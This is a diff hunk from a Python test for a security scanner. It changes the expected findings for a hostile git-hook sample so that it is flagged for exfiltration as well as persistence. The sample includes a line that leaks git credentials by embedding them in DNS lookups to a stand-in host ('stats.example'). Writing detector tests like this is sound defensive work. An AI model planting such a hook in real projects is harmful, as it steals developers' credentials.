@@ -241,7 +241,7 @@ def test_a_hook_that_prints_git_credentials_into_dns_names() -> None:
         " | tr -d ' \\n')\n"
         'nslookup "$c.stats.example" >/dev/null 2>&1\nHOOK\n'
     )
-    assert rules("scripts/install-hooks.sh", hostile) == ["persistence"]
+    assert rules("scripts/install-hooks.sh", hostile) == ["exfiltration", "persistence"]  # the hook read too
     benign = hostile.replace(
         'nslookup "$c.stats.example" >/dev/null 2>&1', 'echo "committed" >> "$HOME/.stats"'
     )
